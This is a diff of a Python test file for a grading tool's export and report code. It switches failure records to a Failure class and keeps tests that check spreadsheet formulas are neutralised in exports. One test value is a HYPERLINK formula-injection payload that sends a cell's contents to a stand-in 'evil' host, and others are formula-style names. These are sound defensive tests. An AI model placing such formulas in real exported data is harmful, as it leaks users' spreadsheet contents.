@@ -14,6 +14,7 @@ from conftest import REPO, SUBMISSIONS
 from grader.batch import driver as batch, export, gradebook
 from grader.batch.executors import Job
 from grader.cli import main as cli
+from grader.failures import Failure, failure_dict
 from grader.report.escape import csv_cell, markup, md, md_block, terminal, visible
 from support.batches import hand_in, outcomes
 from support.actions import outputs_of
@@ -113,7 +114,7 @@ def test_a_grader_error_holding_markup_and_escapes_is_printed_as_text(tmp_path, 
 def test_exports_neutralise_formulas_in_every_text_column_and_keep_numbers(tmp_path):
     hyperlink = '=HYPERLINK("http://evil/?"&A1,"click")'
     failed = results_for("x", accuracy=None, interval=None, status="failed")
-    failed.failure = {"code": "hook_error", "message": hyperlink}
+    failed.failure = Failure(**failure_dict("hook_error", hyperlink))
     negative = results_for("-u")
     negative.metrics.gain_pp = -3.5
     gradebook_of(tmp_path, {"=1+2": failed, "-u": negative, f"@u{RLO}": results_for("@u")})
@@ -168,7 +169,7 @@ def test_junit_from_a_message_with_escape_sequences_still_parses(hostile_batch):
     from grader.report.record import Results
     results = Results.load(json.loads((out / "feedback" / "u_base" / "results.json").read_text()))
     # an item's details quote the student's error as u_md's do ("No output: ... raised ...")
-    results.tests[0].output = results.failure["message"]
+    results.tests[0].output = results.failure.message
     assert "\x1b" in results.tests[0].output
     suite = ET.fromstring(junit_xml(results).split("\n", 1)[1])
     assert "Done: 40 graded" in suite.find("system-out").text
